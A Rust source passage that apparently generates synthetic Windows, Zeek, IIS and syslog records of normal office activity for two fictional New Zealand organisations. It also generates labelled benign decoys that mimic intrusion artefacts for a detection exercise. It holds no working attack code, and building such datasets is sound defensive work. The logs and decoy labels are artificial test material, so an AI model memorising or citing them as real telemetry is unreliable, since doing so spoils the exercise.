//! The benign background of both organisations and the decoys B1–B12 (research file 4.2).
//!
//! Why so much of it: detections are only meaningful against normal activity, and the
//! decoys are benign look-alikes of the storyline's artefacts (an authorised scanner, a
//! deployment writing an .aspx, a procdump of w3wp, a password-protected 7-Zip archive…)
//! that must not be attributed to the actor. Staff follow NZ office hours (NZDT, UTC+13),
//! servers are busy around the clock, and `scale` multiplies the volume of routine activity
//! (the decoys are always complete). Public services resolve to 198.18.0.0/15 (benchmarking
//! range); residential and botnet clients come from the documentation ranges, never from
//! the actor addresses (see `data/environment.json`).

use chrono::{DateTime, Duration, NaiveDate, Utc};

use crate::clock::{in_window, jitter, midnight, ms, nz, nz_days, secs, utc, utc_days, weekday};
use crate::net::{ENV, User};
use crate::rng::Rng;
use crate::sink::{NONE, Sink, Tag};
use crate::syslog;
use crate::truth::Plan;
use crate::w3c::{Req, iis, tomcat};
use crate::winlog::{self as wl, Logon, Proc};
use crate::zeek::{self, Conn, Http};

/// Microsoft Edge on Windows 11.
pub(crate) const UA_EDGE: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36 Edg/122.0.2365.80";
/// Outlook desktop.
pub(crate) const UA_OUTLOOK: &str =
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17328; Pro)";
const UA_IPHONE: &str = "Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Mobile/15E148 Safari/604.1";
const UA_MAC: &str = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Safari/605.1.15";
const UA_FIREFOX: &str =
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:123.0) Gecko/20100101 Firefox/123.0";

/// Public sites staff browse, with their (benchmarking-range) addresses.
const SITES: &[(&str, &str)] = &[
    ("www.legislation.govt.nz", "198.18.10.21"),
    ("www.rnz.co.nz", "198.18.10.35"),
    ("www.stuff.co.nz", "198.18.10.36"),
    ("www.nzherald.co.nz", "198.18.10.37"),
    ("login.microsoftonline.com", "198.18.20.10"),
    ("outlook.office365.com", "198.18.20.11"),
    ("teams.microsoft.com", "198.18.20.12"),
    ("www.bing.com", "198.18.20.13"),
    ("go.microsoft.com", "198.18.20.14"),
    ("www.govt.nz", "198.18.10.22"),
    ("www.stats.govt.nz", "198.18.10.23"),
    ("news.example.net", "198.18.30.5"),
];

/// Update and telemetry endpoints servers query.
const UPDATE_SITES: &[(&str, &str)] = &[
    ("ctldl.windowsupdate.com", "198.18.40.10"),
    ("settings-win.data.microsoft.com", "198.18.40.11"),
    ("definitionupdates.microsoft.com", "198.18.40.12"),
    ("time.windows.com", "198.18.40.13"),
];

/// The tags of the decoys.
#[derive(Debug, Clone, Copy)]
struct Decoys {
    b: [Tag; 13],
}

impl Decoys {
    fn declare(plan: &mut Plan) -> Self {
        let names = [
            "Authorised vulnerability scan by PDO-SCAN01 (Tuesdays 13:00 UTC)",
            "Internet background noise: botnet probes (404s)",
            "Developer deploys Reports/Summary.aspx via Web Deploy (CHG-4411)",
            "Ops captures a crash dump of w3wp with procdump64 in C:\\Tools",
            "Nightly backup FS01 -> BKP01 by svc_backup (22:00 UTC)",
            "Records team archives old bills with 7-Zip and a password",
            "Helpdesk RDP to workstations from PDO-JMP01",
            "Teams installer adds an application-scoped firewall rule",
            "Staff working from home use OWA from NZ residential IPs",
            "Legacy Java reporting app requests an RC4 TGS every 15 min",
            "SCCM/Intune agent upgrade: CcmExec service and encoded PowerShell",
            "Admin runs nltest and net group from PDO-JMP01 during a change",
        ];
        let mut b = [NONE; 13];
        for (i, n) in names.iter().enumerate() {
            b[i + 1] = plan.decoy(&format!("B{}", i + 1), n);
        }
        Decoys { b }
    }
}

/// Generates the background and decoys of both organisations.
pub(crate) fn generate(s: &mut Sink, plan: &mut Plan, seed: u64, scale: f64) {
    let d = Decoys::declare(plan);
    staff(s, &mut Rng::derive(seed, "bg-staff"), scale, &d);
    servers(s, &mut Rng::derive(seed, "bg-servers"), scale);
    linux(s, &mut Rng::derive(seed, "bg-linux"), scale);
    public_web(s, &mut Rng::derive(seed, "bg-public"), scale, &d);
    decoys(s, &mut Rng::derive(seed, "bg-decoys"), scale, &d);
}

/// The realm of a NetBIOS domain (`PDO.EXAMPLE`).
fn realm(domain: &str) -> String {
    ENV.domain(domain).fqdn.to_ascii_uppercase()
}

/// Whether a host writes logs.
fn logged(host: &str) -> bool {
    ENV.hosts.iter().any(|h| h.name == host)
}

/// A random instant between `a` and `b`.
fn between(r: &mut Rng, a: DateTime<Utc>, b: DateTime<Utc>) -> DateTime<Utc> {
    let span = (b - a).num_milliseconds().max(1);
    a + ms(r.range(0, span))
}

/// Staff days: logons, Kerberos, file shares, mail, the Drafts Portal, browsing.
fn staff(s: &mut Sink, r: &mut Rng, scale: f64, d: &Decoys) {
    let presence = (0.9 * scale.min(1.0)).max(0.0);
    let act = scale.max(0.0);
    let deploy = utc("2025-03-05 22:41:30");
    for day in nz_days() {
        let wd = weekday(day);
        for u in &ENV.users {
            if wd && r.chance(presence) {
                work_day(s, r, u, day, act, deploy, d);
            }
            // Working from home in the evening or at weekends (B9).
            let p = if wd { 0.15 } else { 0.06 } * scale.min(1.0);
            if r.chance(p) {
                let start = nz(day, r.range(18 * 3600, 21 * 3600 + 1800));
                wfh(s, r, u, start, act, d.b[9]);
            }
        }
    }
}

/// The mail server of a domain.
fn exch(domain: &str) -> &'static str {
    if domain == "PDO" {
        "PDO-EXCH01"
    } else {
        "LSA-EXCH01"
    }
}

/// DNS server (a DC) and proxy of a domain.
fn dns_proxy(domain: &str) -> (&'static str, &'static str) {
    if domain == "PDO" {
        ("10.20.0.10", "10.20.0.5")
    } else {
        ("10.30.0.10", "10.30.0.5")
    }
}

#[allow(clippy::too_many_arguments)]
fn work_day(
    s: &mut Sink,
    r: &mut Rng,
    u: &User,
    day: NaiveDate,
    act: f64,
    deploy: DateTime<Utc>,
    d: &Decoys,
) {
    let start = nz(day, 8 * 3600 + r.range(0, 5400));
    let end = nz(day, 16 * 3600 + 1800 + r.range(0, 5400));
    let dom = u.domain.as_str();
    let rl = realm(dom);
    let dcs = &ENV.domain(dom).dcs;
    let upn = format!("{}@{rl}", u.sam);
    let (dns_ip, proxy) = dns_proxy(dom);
    if !in_window(start) {
        return;
    }
    // Interactive logon on the workstation.
    let dc = r.pick(dcs).clone();
    wl::tgt(s, &dc, start - secs(2), &u.sam, &rl, &u.ip, "0x12", NONE);
    wl::tgs(
        s,
        &dc,
        start - secs(1),
        &upn,
        &format!("{}$", u.ws),
        &u.ip,
        "0x12",
        "0x40810000",
        NONE,
    );
    if logged(&u.ws) {
        let lid = wl::logon(
            s,
            r,
            &u.ws,
            start,
            &Logon {
                user: &u.sam,
                domain: dom,
                logon_type: 2,
                ip: "127.0.0.1",
                workstation: &u.ws,
                package: "Kerberos",
            },
            NONE,
        );
        wl::logoff(s, &u.ws, end, &u.sam, dom, 2, &lid, NONE);
        workstation(s, r, u, start, end, act);
    }
    // Afternoon TGT renewal and service tickets.
    let lunch = start + Duration::hours(4);
    let dc2 = r.pick(dcs).clone();
    wl::tgt(s, &dc2, lunch, &u.sam, &rl, &u.ip, "0x12", NONE);
    let services: Vec<String> = if dom == "PDO" {
        vec![
            "PDO-FS01$".into(),
            "PDO-EXCH01$".into(),
            "PDO-DC01$".into(),
            "PDO-WEB01$".into(),
            "PDO-SQL01$".into(),
        ]
    } else {
        vec!["LSA-EXCH01$".into(), "LSA-DC01$".into(), "LSA-FS01$".into()]
    };
    for _ in 0..r.count(10.0 * act) {
        let t = between(r, start, end);
        let svc = r.pick(&services).clone();
        let dc2 = r.pick(dcs).clone();
        wl::tgs(s, &dc2, t, &upn, &svc, &u.ip, "0x12", "0x40810000", NONE);
    }
    // File shares (PDO-FS01).
    if dom == "PDO" {
        let t = start + secs(r.range(60, 600));
        let lid = wl::logon(
            s,
            r,
            "PDO-FS01",
            t,
            &Logon {
                user: &u.sam,
                domain: dom,
                logon_type: 3,
                ip: &u.ip,
                workstation: "-",
                package: "Kerberos",
            },
            NONE,
        );
        let shr = if r.chance(0.7) { "Drafts" } else { "Cabinet" };
        wl::share(
            s,
            "PDO-FS01",
            t + ms(40),
            5140,
            &u.sam,
            dom,
            &u.ip,
            &format!("\\\\*\\{shr}"),
            &format!("D:\\Shares\\{shr}"),
            "",
            "0x1",
            NONE,
        );
        for _ in 0..r.count(6.0 * act) {
            let tt = between(r, t, end);
            let file = format!(
                "2025\\Bill-{}\\draft-v{}.docx",
                r.range(1100, 1400),
                r.range(1, 9)
            );
            let mask = if r.chance(0.3) { "0x2" } else { "0x1" };
            wl::share(
                s,
                "PDO-FS01",
                tt,
                5145,
                &u.sam,
                dom,
                &u.ip,
                &format!("\\\\*\\{shr}"),
                &format!("\\??\\D:\\Shares\\{shr}"),
                &file,
                mask,
                NONE,
            );
        }
        wl::logoff(s, "PDO-FS01", end + secs(30), &u.sam, dom, 3, &lid, NONE);
        zeek::conn(
            s,
            t,
            &Conn {
                orig: &u.ip,
                orig_p: r.range(49152, 65000) as u16,
                resp: "10.20.0.20",
                resp_p: 445,
                proto: "tcp",
                service: "smb,gssapi",
                duration: (end - t).num_seconds() as f64,
                orig_bytes: r.range(20_000, 900_000) as u64,
                resp_bytes: r.range(200_000, 40_000_000) as u64,
                state: "SF",
            },
            NONE,
        );
    }
    // Outlook (MAPI over HTTP) polling the mail server.
    let ex = exch(dom);
    let ex_ip = ENV.host(ex).ip.clone();
    let mbx = format!("{}@{}", u.sam, ENV.domain(dom).fqdn);
    let n = r.count(45.0 * act);
    for i in 0..n {
        let t = start + (end - start) * (i as i32) / (n.max(1) as i32) + ms(r.range(0, 30_000));
        let (stem, query, method) = match r.below(10) {
            0 => ("/EWS/Exchange.asmx", String::new(), "POST"),
            1 => ("/autodiscover/autodiscover.xml", String::new(), "POST"),
            _ => (
                "/mapi/emsmdb/",
                format!("MailboxId={}&ClientId={}", mbx, r.hex(8).to_uppercase()),
                "POST",
            ),
        };
        iis(
            s,
            ex,
            &ex_ip,
            t,
            &Req {
                method,
                stem,
                query: &query,
                user: &format!("{dom}\\{}", u.sam),
                client: &u.ip,
                ua: UA_OUTLOOK,
                referer: "",
                status: 200,
                sc_bytes: r.range(900, 60_000) as u64,
                cs_bytes: r.range(600, 4000) as u64,
                taken: r.range(15, 400) as u64,
            },
            NONE,
        );
    }
    // OWA in the browser now and then.
    if r.chance(0.3) {
        let t = between(r, start, end);
        owa_session(
            s,
            r,
            ex,
            &ex_ip,
            &format!("{dom}\\{}", u.sam),
            &u.ip,
            UA_EDGE,
            t,
            act,
            NONE,
        );
    }
    // The Drafts Portal.
    if dom == "PDO" {
        for _ in 0..r.count(22.0 * act) {
            let t = between(r, start, end);
            let user = format!("PDO\\{}", u.sam);
            let (stem, query, status, sc) = drafts_page(r, t >= deploy);
            let tag = if stem.ends_with("Summary.aspx") {
                d.b[3]
            } else {
                NONE
            };
            iis(
                s,
                "PDO-WEB01",
                "172.16.10.21",
                t,
                &Req {
                    method: "GET",
                    stem: &stem,
                    query: &query,
                    user: &user,
                    client: &u.ip,
                    ua: UA_EDGE,
                    referer: "https://drafts.pdo.example/drafts/",
                    status,
                    sc_bytes: sc,
                    cs_bytes: r.range(400, 900) as u64,
                    taken: r.range(8, 300) as u64,
                },
                tag,
            );
        }
    }
    // Browsing through the proxy, and DNS.
    for _ in 0..r.count(25.0 * act) {
        let t = between(r, start, end);
        let (host, ip) = *r.pick(SITES);
        zeek::dns(s, t, &u.ip, dns_ip, host, ip, NONE);
    }
    for _ in 0..r.count(18.0 * act) {
        let t = between(r, start, end);
        let (host, _) = *r.pick(SITES);
        let uri = format!(
            "/{}",
            [
                "",
                "news",
                "search?q=bill",
                "content/article",
                "assets/main.js",
                "img/banner.jpg"
            ][r.below(6) as usize]
        );
        zeek::http(
            s,
            t,
            &Http {
                orig: &u.ip,
                resp: proxy,
                resp_p: 8080,
                method: "GET",
                host,
                uri: &uri,
                ua: UA_EDGE,
                req_len: 0,
                resp_len: r.range(2_000, 400_000) as u64,
                status: 200,
                mime: "text/html",
            },
            NONE,
        );
    }
}

/// A page of the Drafts Portal: stem, query, status, bytes.
fn drafts_page(r: &mut Rng, after_deploy: bool) -> (String, String, u16, u64) {
    let id = r.range(1100, 1400);
    match r.below(if after_deploy { 11 } else { 10 }) {
        0 => (
            "/drafts/".into(),
            String::new(),
            200,
            r.range(14_000, 19_000) as u64,
        ),
        1 => (
            "/drafts/Default.aspx".into(),
            String::new(),
            200,
            r.range(14_000, 19_000) as u64,
        ),
        2 | 3 => (
            "/drafts/Bills/View.aspx".into(),
            format!("id={id}"),
            200,
            r.range(30_000, 120_000) as u64,
        ),
        4 => (
            "/drafts/api/bills".into(),
            format!("page={}", r.range(1, 9)),
            200,
            r.range(4_000, 22_000) as u64,
        ),
        5 => ("/drafts/Content/site.css".into(), String::new(), 304, 210),
        6 => ("/drafts/Scripts/app.js".into(), String::new(), 304, 210),
        7 => (
            format!("/drafts/Images/thumbs/bill-{id}.png"),
            String::new(),
            200,
            r.range(8_000, 30_000) as u64,
        ),
        8 => (
            "/drafts/Attachments/Download.ashx".into(),
            format!("id={}", r.range(20_000, 40_000)),
            200,
            r.range(40_000, 900_000) as u64,
        ),
        9 => (
            "/drafts/Bills/History.aspx".into(),
            format!("id={id}"),
            200,
            r.range(10_000, 40_000) as u64,
        ),
        _ => (
            "/drafts/Reports/Summary.aspx".into(),
            format!("week={}", r.range(8, 12)),
            200,
            r.range(20_000, 60_000) as u64,
        ),
    }
}

/// A short OWA browser session.
#[allow(clippy::too_many_arguments)]
fn owa_session(
    s: &mut Sink,
    r: &mut Rng,
    ex: &str,
    ex_ip: &str,
    user: &str,
    client: &str,
    ua: &str,
    t: DateTime<Utc>,
    act: f64,
    tag: Tag,
) {
    let n = 4 + r.count(8.0 * act.min(1.0));
    let mut tt = t;
    for i in 0..n {
        let (method, stem, query) = match i {
            0 => ("GET", "/owa/", ""),
            1 => ("POST", "/owa/auth.owa", ""),
            _ => match r.below(4) {
                0 => ("POST", "/owa/service.svc", "action=FindItem&app=Mail"),
                1 => ("POST", "/owa/service.svc", "action=GetItem&app=Mail"),
                2 => (
                    "GET",
                    "/owa/prem/15.2.1544.4/resources/images/0/sprite1.mouse.png",
                    "",
                ),
                _ => (
                    "POST",
                    "/owa/service.svc",
                    "action=GetConversationItems&app=Mail",
                ),
            },
        };
        let status = if i == 1 { 302 } else { 200 };
        let u = if i == 0 { "" } else { user };
        iis(
            s,
            ex,
            ex_ip,
            tt,
            &Req {
                method,
                stem,
                query,
                user: u,
                client,
                ua,
                referer: "",
                status,
                sc_bytes: r.range(600, 90_000) as u64,
                cs_bytes: r.range(500, 3000) as u64,
                taken: r.range(20, 600) as u64,
            },
            tag,
        );
        tt += ms(r.range(800, 60_000));
    }
    if !client.starts_with("10.") {
        zeek::conn(
            s,
            t,
            &Conn {
                orig: client,
                orig_p: r.range(49152, 65000) as u16,
                resp: ex_ip,
                resp_p: 443,
                proto: "tcp",
                service: "ssl",
                duration: (tt - t).num_milliseconds() as f64 / 1000.0,
                orig_bytes: r.range(5_000, 40_000) as u64,
                resp_bytes: r.range(80_000, 900_000) as u64,
                state: "SF",
            },
            tag,
        );
    }
}

/// Working from home: OWA from a residential address (B9).
fn wfh(s: &mut Sink, r: &mut Rng, u: &User, t: DateTime<Utc>, act: f64, tag: Tag) {
    if !in_window(t) {
        return;
    }
    let pool = ENV.pool(&ENV.residential);
    // A stable home address per user.
    let home = pool[(crate::rng::fnv1a(&u.sam) % pool.len() as u64) as usize].clone();
    let ex = exch(&u.domain);
    let ex_ip = ENV.host(ex).ip.clone();
    let ua = if r.chance(0.5) { UA_IPHONE } else { UA_MAC };
    owa_session(
        s,
        r,
        ex,
        &ex_ip,
        &format!("{}\\{}", u.domain, u.sam),
        &home,
        ua,
        t,
        act,
        tag,
    );
}

/// Processes, connections, DNS and files of a staff workstation during a day.
fn workstation(
    s: &mut Sink,
    r: &mut Rng,
    u: &User,
    start: DateTime<Utc>,
    end: DateTime<Utc>,
    act: f64,
) {
    let host = u.ws.as_str();
    let user = format!("{}\\{}", u.domain, u.sam);
    let home = format!("C:\\Users\\{}", u.sam);
    let (dns_ip, proxy) = dns_proxy(&u.domain);
    let edge = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe";
    let outlook = "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE";
    let teams = "C:\\Program Files\\WindowsApps\\MSTeams_24033.811.2738.2546_x64__8wekyb3d8bbwe\\ms-teams.exe";
    let onedrive = format!("{home}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe");
    let at_logon: Vec<(String, String, String, String)> = vec![
        (
            "C:\\Windows\\System32\\userinit.exe".into(),
            "C:\\Windows\\system32\\userinit.exe".into(),
            "C:\\Windows\\System32\\winlogon.exe".into(),
            "winlogon.exe".into(),
        ),
        (
            "C:\\Windows\\explorer.exe".into(),
            "C:\\Windows\\Explorer.EXE".into(),
            "C:\\Windows\\System32\\userinit.exe".into(),
            "C:\\Windows\\system32\\userinit.exe".into(),
        ),
        (
            onedrive.clone(),
            format!("\"{onedrive}\" /background"),
            "C:\\Windows\\explorer.exe".into(),
            "C:\\Windows\\Explorer.EXE".into(),
        ),
        (
            teams.into(),
            format!("\"{teams}\" msteams:system-initiated"),
            "C:\\Windows\\explorer.exe".into(),
            "C:\\Windows\\Explorer.EXE".into(),
        ),
        (
            outlook.into(),
            format!("\"{outlook}\" "),
            "C:\\Windows\\explorer.exe".into(),
            "C:\\Windows\\Explorer.EXE".into(),
        ),
        (
            edge.into(),
            format!("\"{edge}\" --no-startup-window --win-session-start"),
            "C:\\Windows\\explorer.exe".into(),
            "C:\\Windows\\Explorer.EXE".into(),
        ),
    ];
    let mut t = start + secs(3);
    for (img, cmd, pimg, pcmd) in &at_logon {
        wl::process(
            s,
            r,
            host,
            t,
            &Proc::new(img, cmd, pimg, pcmd, &user).cwd(&format!("{home}\\")),
            NONE,
        );
        t += ms(r.range(300, 4000));
    }
    // Through the day.
    for _ in 0..r.count(30.0 * act) {
        let t = between(r, start, end);
        let (img, cmd, pimg, pcmd) = match r.below(6) {
            0 => (edge.to_string(), format!("\"{edge}\" --type=renderer --lang=en-NZ --js-flags=--ms-user-locale= --device-scale-factor=1 --num-raster-threads=4 --renderer-client-id={} --mojo-platform-channel-handle={} /prefetch:1", r.range(5, 90), r.range(3000, 9000)), edge.to_string(), format!("\"{edge}\" --no-startup-window --win-session-start")),
            1 => ("C:\\Windows\\System32\\backgroundTaskHost.exe".into(), "\"C:\\Windows\\system32\\backgroundTaskHost.exe\" -ServerName:BackgroundTaskHost.WebAccountProvider".into(), "C:\\Windows\\System32\\svchost.exe".into(), "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p".into()),
            2 => ("C:\\Windows\\System32\\SearchProtocolHost.exe".into(), "\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe_S-1-5-21 Global\\UsGthrCtrlFltPipeMssGthrPipe_S-1-5-21 1 -2147483646 \"Software\\Microsoft\\Windows Search\" \"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)\" \"C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc\" \"DownLevelDaemon\"".into(), "C:\\Windows\\System32\\SearchIndexer.exe".into(), "C:\\Windows\\system32\\SearchIndexer.exe /Embedding".into()),
            3 => ("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE".into(), format!("\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"\\\\PDO-FS01\\Drafts\\2025\\Bill-{}\\draft-v{}.docx\"", r.range(1100, 1400), r.range(1, 9)), "C:\\Windows\\explorer.exe".into(), "C:\\Windows\\Explorer.EXE".into()),
            4 => ("C:\\Windows\\System32\\taskhostw.exe".into(), "taskhostw.exe KEYROAMING".into(), "C:\\Windows\\System32\\svchost.exe".into(), "C:\\Windows\\system32\\svchost.exe -k netsvcs -p".into()),
            _ => ("C:\\Windows\\System32\\RuntimeBroker.exe".into(), "C:\\Windows\\System32\\RuntimeBroker.exe -Embedding".into(), "C:\\Windows\\System32\\svchost.exe".into(), "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p".into()),
        };
        wl::process(
            s,
            r,
            host,
            t,
            &Proc::new(&img, &cmd, &pimg, &pcmd, &user).cwd(&format!("{home}\\")),
            NONE,
        );
    }
    for _ in 0..r.count(30.0 * act) {
        let t = between(r, start, end);
        let (name, ip) = *r.pick(SITES);
        wl::dns_query(
            s,
            r,
            host,
            t,
            edge,
            name,
            &format!("::ffff:{ip};"),
            &user,
            NONE,
        );
        let p = r.range(49152, 65000) as u16;
        wl::net_conn(
            s,
            r,
            host,
            t + ms(30),
            edge,
            &user,
            (&u.ip, p),
            (proxy, 8080),
            "",
            NONE,
        );
    }
    for _ in 0..r.count(6.0 * act) {
        let t = between(r, start, end);
        let ex = ENV.host(exch(&u.domain));
        let p = r.range(49152, 65000) as u16;
        wl::net_conn(
            s,
            r,
            host,
            t,
            outlook,
            &user,
            (&u.ip, p),
            (&ex.ip, 443),
            &crate::winlog::fqdn(&ex.name),
            NONE,
        );
    }
    for _ in 0..r.count(2.0 * act) {
        let t = between(r, start, end);
        let f = format!(
            "{home}\\Downloads\\{}-{}.pdf",
            [
                "select-committee-report",
                "briefing",
                "submission",
                "hansard"
            ][r.below(4) as usize],
            r.range(100, 999)
        );
        wl::file_create(s, r, host, t, edge, &f, &user, NONE);
    }
    let _ = dns_ip;
}

/// Windows servers around the clock: service processes, machine logons, updates.
fn servers(s: &mut Sink, r: &mut Rng, scale: f64) {
    let act = scale.max(0.0);
    let windows: Vec<_> = ENV
        .hosts
        .iter()
        .filter(|h| h.windows() && h.role != "ws")
        .collect();
    for day in utc_days() {
        let m = midnight(day);
        for h in &windows {
            let host = h.name.as_str();
            let dom = h.domain.as_str();
            let dcs = &ENV.domain(dom).dcs;
            let rl = realm(dom);
            let (dns_ip, proxy) = dns_proxy(dom);
            // Hourly-ish service activity.
            for _ in 0..r.count(40.0 * act) {
                let t = m + ms(r.range(0, 86_400_000));
                let (img, cmd, pimg, pcmd, user) = match r.below(7) {
                    0 => (
                        "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
                        "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
                        "C:\\Windows\\System32\\svchost.exe",
                        "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p",
                        "NT AUTHORITY\\NETWORK SERVICE",
                    ),
                    1 => (
                        "C:\\Windows\\System32\\taskhostw.exe",
                        "taskhostw.exe",
                        "C:\\Windows\\System32\\svchost.exe",
                        "C:\\Windows\\system32\\svchost.exe -k netsvcs -p",
                        "NT AUTHORITY\\SYSTEM",
                    ),
                    2 => (
                        "C:\\Windows\\System32\\MoUsoCoreWorker.exe",
                        "C:\\Windows\\System32\\mousocoreworker.exe -Embedding",
                        "C:\\Windows\\System32\\svchost.exe",
                        "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p",
                        "NT AUTHORITY\\SYSTEM",
                    ),
                    3 => (
                        "C:\\Windows\\System32\\sppsvc.exe",
                        "C:\\Windows\\system32\\sppsvc.exe",
                        "C:\\Windows\\System32\\services.exe",
                        "C:\\Windows\\system32\\services.exe",
                        "NT AUTHORITY\\NETWORK SERVICE",
                    ),
                    4 => (
                        "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MpCmdRun.exe",
                        "\"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MpCmdRun.exe\" SignatureUpdate -ScheduleJob -RestrictPrivileges -Reinvoke",
                        "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe",
                        "\"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe\"",
                        "NT AUTHORITY\\SYSTEM",
                    ),
                    5 => (
                        "C:\\Windows\\System32\\svchost.exe",
                        "C:\\Windows\\system32\\svchost.exe -k wusvcs -p -s WaaSMedicSvc",
                        "C:\\Windows\\System32\\services.exe",
                        "C:\\Windows\\system32\\services.exe",
                        "NT AUTHORITY\\SYSTEM",
                    ),
                    _ => (
                        "C:\\Windows\\System32\\dllhost.exe",
                        "C:\\Windows\\system32\\DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}",
                        "C:\\Windows\\System32\\svchost.exe",
                        "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p",
                        "NT AUTHORITY\\SYSTEM",
                    ),
                };
                wl::process(s, r, host, t, &Proc::new(img, cmd, pimg, pcmd, user), NONE);
            }
            // IIS application pool recycle.
            if matches!(h.role.as_str(), "web" | "exch") && r.chance(0.8) {
                let pool = if h.role == "web" {
                    "DraftsPortal"
                } else {
                    "MSExchangeOWAAppPool"
                };
                let t = m + secs(r.range(3600, 5 * 3600));
                let cmd = format!(
                    "c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"{pool}\" -v \"v4.0\" -l \"webengine4.dll\" -a \\\\.\\pipe\\iisipm{} -h \"C:\\inetpub\\temp\\apppools\\{pool}\\{pool}.config\" -w \"\" -m 0 -t 20 -ta 0",
                    r.hex(8)
                );
                let user = format!("IIS APPPOOL\\{pool}");
                wl::process(
                    s,
                    r,
                    host,
                    t,
                    &Proc::new(
                        "C:\\Windows\\System32\\inetsrv\\w3wp.exe",
                        &cmd,
                        "C:\\Windows\\System32\\svchost.exe",
                        "C:\\Windows\\system32\\svchost.exe -k iissvcs",
                        &user,
                    ),
                    NONE,
                );
            }
            // Machine account authentication to the DCs.
            for _ in 0..r.count(24.0 * act) {
                let t = m + ms(r.range(0, 86_400_000));
                let dc = r.pick(dcs).clone();
                if dc == h.name {
                    continue;
                }
                let acct = format!("{host}$");
                wl::tgs(
                    s,
                    &dc,
                    t,
                    &format!("{acct}@{rl}"),
                    &format!("{dc}$"),
                    &h.ip,
                    "0x12",
                    "0x40810000",
                    NONE,
                );
                let lid = wl::logon(
                    s,
                    r,
                    &dc,
                    t + ms(15),
                    &Logon {
                        user: &acct,
                        domain: dom,
                        logon_type: 3,
                        ip: &h.ip,
                        workstation: "-",
                        package: "Kerberos",
                    },
                    NONE,
                );
                wl::logoff(
                    s,
                    &dc,
                    t + ms(r.range(200, 5000)),
                    &acct,
                    dom,
                    3,
                    &lid,
                    NONE,
                );
            }
            // Updates and time.
            for _ in 0..r.count(8.0 * act) {
                let t = m + ms(r.range(0, 86_400_000));
                let (name, ip) = *r.pick(UPDATE_SITES);
                wl::dns_query(
                    s,
                    r,
                    host,
                    t,
                    "C:\\Windows\\System32\\svchost.exe",
                    name,
                    &format!("::ffff:{ip};"),
                    "NT AUTHORITY\\NETWORK SERVICE",
                    NONE,
                );
                zeek::dns(s, t, &h.ip, dns_ip, name, ip, NONE);
                if r.chance(0.5) {
                    zeek::http(
                        s,
                        t + ms(200),
                        &Http {
                            orig: &h.ip,
                            resp: proxy,
                            resp_p: 8080,
                            method: "GET",
                            host: name,
                            uri: "/msdownload/update/v3/static/trustedr/en/authrootstl.cab",
                            ua: "Microsoft-CryptoAPI/10.0",
                            req_len: 0,
                            resp_len: r.range(5_000, 90_000) as u64,
                            status: 200,
                            mime: "application/vnd.ms-cab-compressed",
                        },
                        NONE,
                    );
                }
            }
        }
        // Internal service traffic seen by the sensor.
        for _ in 0..r.count(160.0 * act) {
            let t = m + ms(r.range(0, 86_400_000));
            let (orig, resp, port, svc) = match r.below(5) {
                0 => ("10.20.0.21", "10.20.0.30", 1433, ""),
                1 => ("172.16.10.21", "10.20.0.30", 1433, ""),
                2 => ("10.20.0.40", "10.20.0.10", 389, "ldap"),
                3 => ("10.20.0.20", "10.20.0.11", 88, "krb_tcp"),
                _ => ("10.20.0.50", "10.20.0.10", 135, "dce_rpc"),
            };
            let orig = if orig == "10.20.0.21" {
                "10.20.0.31"
            } else {
                orig
            };
            zeek::conn(
                s,
                t,
                &Conn {
                    orig,
                    orig_p: r.range(49152, 65000) as u16,
                    resp,
                    resp_p: port,
                    proto: "tcp",
                    service: svc,
                    duration: r.f64() * 4.0,
                    orig_bytes: r.range(200, 9000) as u64,
                    resp_bytes: r.range(200, 60000) as u64,
                    state: "SF",
                },
                NONE,
            );
        }
    }
}

/// Linux hosts: cron, admin SSH sessions, the remote-access gateway's portal.
fn linux(s: &mut Sink, r: &mut Rng, scale: f64) {
    let act = scale.max(0.0);
    let admins = ENV.admins.linux_admins.clone();
    let residential = ENV.pool(&ENV.residential);
    for day in utc_days() {
        let m = midnight(day);
        for host in ["PDO-BKP01", "PDO-RAG01"] {
            for hour in 0..24 {
                if !r.chance(act.min(1.0)) {
                    continue;
                }
                let t = m + Duration::hours(hour) + secs(1) + ms(r.range(0, 900));
                let pid = r.range(3000, 60000) as u32;
                syslog::line(
                    s,
                    host,
                    "auth.log",
                    t,
                    "CRON",
                    pid,
                    "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)",
                    NONE,
                );
                syslog::line(
                    s,
                    host,
                    "auth.log",
                    t + ms(r.range(200, 3000)),
                    "CRON",
                    pid,
                    "pam_unix(cron:session): session closed for user root",
                    NONE,
                );
            }
        }
        // Admin SSH from the jump host on NZ weekdays.
        let nzday = day + Duration::days(1);
        if weekday(nzday) {
            for host in ["PDO-BKP01", "PDO-RAG01"] {
